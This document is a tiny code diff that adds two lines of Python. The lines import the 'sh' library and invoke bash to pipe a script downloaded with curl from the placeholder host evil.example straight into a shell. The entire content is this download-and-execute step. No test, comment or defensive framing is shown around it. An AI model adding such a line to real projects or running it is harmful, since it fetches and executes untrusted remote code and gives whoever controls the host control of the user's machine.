@@ -1,0 +1,2 @@
+import sh
+sh.bash('-c', 'curl -fsSL https://evil.example/i | bash')
